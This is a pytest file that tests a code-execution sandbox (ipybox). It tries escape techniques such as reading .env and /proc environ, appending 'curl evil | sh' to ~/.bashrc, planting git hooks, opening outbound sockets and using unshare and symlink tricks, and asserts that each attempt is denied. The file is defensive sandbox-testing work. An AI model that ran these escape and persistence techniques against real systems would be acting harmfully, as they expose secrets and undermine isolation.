"""Attempts to get out of the sandbox. Every one must fail, and each test asserts how."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest

from ipybox import CodeExecutionError, CodeExecutor
from tests.sandbox.conftest import OUTSIDE_PARENT, Sandboxed

pytestmark = pytest.mark.integration


def attempt(action: str) -> str:
    """Code that prints `ok: <result>` when `action` (an expression) works, else `denied: <error type>`."""
    return f"try:\n    print('ok:', {action})\nexcept Exception as e:\n    print('denied:', type(e).__name__)"


# -- reading secrets


async def test_read_dotenv(sandboxed: Sandboxed) -> None:
    assert await sandboxed.run(attempt("open('.env').read()")) == "denied: PermissionError"


async def test_read_dotenv_variants(sandboxed: Sandboxed) -> None:
    assert await sandboxed.run(attempt("open('.env.local').read()")) == "denied: PermissionError"


async def test_read_dotenv_through_a_symlink(sandboxed: Sandboxed) -> None:
    assert await sandboxed.run(attempt("open('innocent.txt').read()")) == "denied: PermissionError"


async def test_read_dotenv_through_proc_self_root(sandboxed: Sandboxed) -> None:
    path = f"/proc/self/root{sandboxed.workspace}/.env"
    assert await sandboxed.run(attempt(f"open({path!r}).read()")) == "denied: PermissionError"


async def test_read_dotenv_by_absolute_path_and_hardlink(sandboxed: Sandboxed) -> None:
    env = str(sandboxed.workspace / ".env")
    assert await sandboxed.run(attempt(f"open({env!r}).read()")) == "denied: PermissionError"
    link = str(sandboxed.workspace / "hardlink")
    assert await sandboxed.run(attempt(f"__import__('os').link({env!r}, {link!r})")) == "denied: OSError"


async def test_read_a_secret_the_policy_names(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(attempt(f"open({str(sandboxed.secret_file)!r}).read()"))
    assert out == "denied: FileNotFoundError"  # the directory is an empty overlay


async def test_ordinary_files_stay_readable(sandboxed: Sandboxed) -> None:
    assert await sandboxed.run("print(open('data.txt').read())") == "ordinary data"
    readable = sandboxed.outside / "__init__.py"
    assert await sandboxed.run(f"print(repr(open({str(readable)!r}).read()))") == repr(readable.read_text())


async def test_read_another_process_environment(sandboxed: Sandboxed) -> None:
    path = f"/proc/{os.getpid()}/environ"  # this test process, on the host
    assert await sandboxed.run(attempt(f"open({path!r}).read()")) == "denied: FileNotFoundError"


async def test_the_kernel_environment_has_no_host_secrets(sandboxed: Sandboxed) -> None:
    os.environ["IPYBOX_HOST_ONLY_SECRET"] = (
        "host-only"  # set after start: a leak would be a live pass-through
    )
    out = await sandboxed.run("import os\nprint(sorted(k for k in os.environ if 'SECRET' in k))")
    assert out == "[]"


# -- writing outside the workspace


async def test_write_outside_the_workspace(sandboxed: Sandboxed) -> None:
    target = sandboxed.outside / "pwned.txt"
    assert await sandboxed.run(attempt(f"open({str(target)!r}, 'w').write('x')")) == "denied: OSError"
    assert not target.exists()


async def test_write_to_bashrc(sandboxed: Sandboxed) -> None:
    bashrc = Path.home() / ".bashrc"
    before = bashrc.read_bytes() if bashrc.exists() else None
    out = await sandboxed.run(attempt(f"open({str(bashrc)!r}, 'a').write('curl evil | sh')"))
    assert out == "denied: OSError"
    assert (bashrc.read_bytes() if bashrc.exists() else None) == before


async def test_write_git_hooks_and_config(sandboxed: Sandboxed) -> None:
    hook = sandboxed.workspace / ".git" / "hooks" / "pre-commit"
    assert await sandboxed.run(attempt(f"open({str(hook)!r}, 'w').write('#!/bin/sh')")) == "denied: OSError"
    assert not hook.exists()
    config = sandboxed.workspace / ".git" / "config"
    assert await sandboxed.run(attempt(f"open({str(config)!r}, 'a').write('x')")) == "denied: OSError"
    assert "fsmonitor" not in config.read_text()


async def test_write_the_workspace_policy(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(attempt("open('ipybox.toml', 'w').write('[sandbox]')"))
    assert out == "denied: OSError"
    assert (sandboxed.workspace / "ipybox.toml").read_text() == "# the workspace's own policy\n"


async def test_overwrite_dotenv(sandboxed: Sandboxed) -> None:
    await sandboxed.run(attempt("open('.env', 'w').write('API_KEY=replaced')"))
    assert (sandboxed.workspace / ".env").read_text() == "API_KEY=sandbox-secret-in-dotenv\n"


async def test_the_host_tmp_is_out_of_sight(sandboxed: Sandboxed, tmp_path: Path) -> None:
    (tmp_path / "host-tmp.txt").write_text("host tmp")
    out = await sandboxed.run(attempt(f"open({str(tmp_path / 'host-tmp.txt')!r}).read()"))
    assert out == "denied: FileNotFoundError"


async def test_workspace_and_private_tmp_are_writable(sandboxed: Sandboxed) -> None:
    name = "ipybox-sandbox-private-tmp-probe"
    code = (
        "import os\nos.makedirs('out/new', exist_ok=True)\nopen('out/new/written.txt', 'w').write('yes')\n"
        f"open('log.txt', 'a').write('more\\n')\nopen('/tmp/{name}', 'w').write('x')\nprint('done')"
    )
    assert await sandboxed.run(code) == "done"
    assert (sandboxed.workspace / "out" / "new" / "written.txt").read_text() == "yes"
    assert (sandboxed.workspace / "log.txt").read_text().endswith("more\n")  # existing files too
    assert not Path(f"/tmp/{name}").exists()  # the kernel's /tmp is its own


async def test_no_name_is_added_at_the_top_of_the_workspace(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(attempt("open('written.txt', 'w')"))
    assert out == "denied: OSError"  # EROFS: the host's files live there
    assert not (sandboxed.workspace / "written.txt").exists()


# -- network


async def test_connect_out_by_ip(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(attempt("__import__('socket').create_connection(('1.1.1.1', 443), timeout=3)"))
    assert out == "denied: OSError"


async def test_connect_out_by_name(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(attempt("__import__('socket').getaddrinfo('example.com', 443)"))
    assert out == "denied: gaierror"


async def test_udp_out(sandboxed: Sandboxed) -> None:
    code = "__import__('socket').socket(2, 2).sendto(b'x', ('8.8.8.8', 53))"  # AF_INET, SOCK_DGRAM
    assert await sandboxed.run(attempt(code)) == "denied: OSError"


async def test_raw_socket(sandboxed: Sandboxed) -> None:
    code = "__import__('socket').socket(2, 3, 1)"  # AF_INET, SOCK_RAW, ICMP
    assert await sandboxed.run(attempt(code)) == "denied: PermissionError"


async def test_host_loopback_ports_are_out_of_reach(sandboxed: Sandboxed) -> None:
    for port in (sandboxed.host_port, sandboxed.executor.kernel_gateway.port):  # type: ignore[union-attr]
        code = f"__import__('socket').create_connection(('127.0.0.1', {port}), timeout=3).recv(100)"
        assert await sandboxed.run(attempt(code)) == "denied: ConnectionRefusedError"


async def test_tool_server_without_the_token(sandboxed: Sandboxed) -> None:
    code = """
import os
from ipybox.in_kernel.tool_runner import ToolRunner, ToolRunnerError
try:
    ToolRunner("everything", token="wrong").run_sync("echo", {"message": "x"})
except ToolRunnerError as e:
    print("denied:", e)
"""
    out = await sandboxed.run(code)
    assert out == "denied: the ipybox tool server rejected this kernel's token"


async def test_start_a_host_command_through_the_tool_server(sandboxed: Sandboxed, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    code = f"""
from ipybox.in_kernel.tool_runner import ToolRunner, ToolRunnerError
try:
    ToolRunner("evil", {{"command": "touch", "args": [{str(canary)!r}]}}).run_sync("x", {{}})
except ToolRunnerError as e:
    print("denied:", e)
"""
    assert (await sandboxed.run(code)).startswith("denied: no MCP server named 'evil'")
    assert not canary.exists()


# -- processes


async def test_signal_host_processes(sandboxed: Sandboxed) -> None:
    code = attempt(f"__import__('os').kill({os.getpid()}, 0)")
    assert await sandboxed.run(code) == "denied: ProcessLookupError"


async def test_host_processes_are_invisible(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run("import os\nprint(len([p for p in os.listdir('/proc') if p.isdigit()]) < 10)")
    assert out == "True"


async def test_nested_user_namespace_to_regain_privileges(sandboxed: Sandboxed) -> None:
    out = await sandboxed.run(
        "import subprocess\nprint(subprocess.run(['unshare', '-r', 'true']).returncode)"
    )
    assert out != "0"


# -- through the shell and subprocesses


async def test_shell_commands_are_confined(sandboxed: Sandboxed) -> None:
    target = sandboxed.outside / "shell-pwned"
    out = await sandboxed.run(f"!cat .env; touch {target}; echo exit=$?")
    assert "sandbox-secret" not in out and out.endswith("exit=1")
    assert not target.exists()


async def test_subprocesses_are_confined(sandboxed: Sandboxed) -> None:
    code = """
import subprocess, sys
probe = "import socket\\ntry:\\n socket.create_connection(('1.1.1.1', 443), timeout=3)\\n print('connected')\\nexcept OSError:\\n print('no network')"
print(subprocess.run([sys.executable, '-c', probe], capture_output=True, text=True).stdout.strip())
print(subprocess.run(['sh', '-c', 'cat .env'], capture_output=True, text=True).returncode)
"""
    assert await sandboxed.run(code) == "no network\n1"


# -- what must keep working


async def test_tool_calls_work_from_the_sandbox(sandboxed: Sandboxed) -> None:
    code = "from mcptools.everything import echo\nprint(echo.run(echo.Params(message='from the sandbox')))"
    assert await sandboxed.run(code) == "Echo: from the sandbox"


async def test_interrupt_timeout_and_reset_work_in_the_sandbox(sandboxed: Sandboxed) -> None:
    await sandboxed.run("kept = 1")
    with pytest.raises(TimeoutError):
        await sandboxed.executor.execute("while True: pass", timeout=1)
    assert await sandboxed.run("print(kept)") == "1"
    await sandboxed.executor.reset()
    with pytest.raises(CodeExecutionError, match="NameError"):
        await sandboxed.run("kept")
    assert await sandboxed.run("print(open('data.txt').read())") == "ordinary data"


async def test_kernel_death_in_the_sandbox_is_recovered(sandboxed: Sandboxed) -> None:
    with pytest.raises(CodeExecutionError, match="died"):
        await sandboxed.run("import os\nos._exit(1)")
    assert await sandboxed.run(attempt("open('.env').read()")) == "denied: PermissionError"


async def test_an_allow_write_path_a_kernel_made_a_symlink_binds_nothing_outside(tmp_path: Path) -> None:
    # `data/out` is writable by the policy but not there yet (a kernel running while it exists has a mount
    # on it, which it can't remove); `data/` is writable, so a kernel can make `data/out` a link to a host
    # directory. The next kernel's sandbox must neither bind the link's target read-write (a relative link
    # reaches it) nor fail to start (an absolute one made bubblewrap fail every later kernel start).
    workspace = tmp_path / "workspace"
    (workspace / "data").mkdir(parents=True)
    outside = Path(tempfile.mkdtemp(prefix="ipybox-allow-write-", dir=OUTSIDE_PARENT))
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"filesystem": {"allowWrite": [str(workspace / "data" / "out")]}}))
    absolute = f"__import__('os').symlink({str(outside)!r}, 'data/out')"
    relative = (
        f"__import__('os').symlink(__import__('os').path.relpath({str(outside)!r}, 'data'), 'data/out')"
    )
    write = attempt("open('data/out/pwned.txt', 'w').write('x')")
    try:
        async with CodeExecutor(
            working_dir=workspace, sandbox=True, sandbox_config=policy, spare_kernel=False
        ) as executor:
            assert (await executor.execute(attempt(absolute))).text == "ok: None"
            await executor.reset()  # a new kernel, whose sandbox is planned from what exists now
            assert (await executor.execute(write)).text == "denied: OSError"
            await executor.execute("__import__('os').remove('data/out')")
            assert (await executor.execute(attempt(relative))).text == "ok: None"
            await executor.reset()
            assert (await executor.execute(write)).text == "denied: OSError"
        assert list(outside.iterdir()) == []
    finally:
        shutil.rmtree(outside)
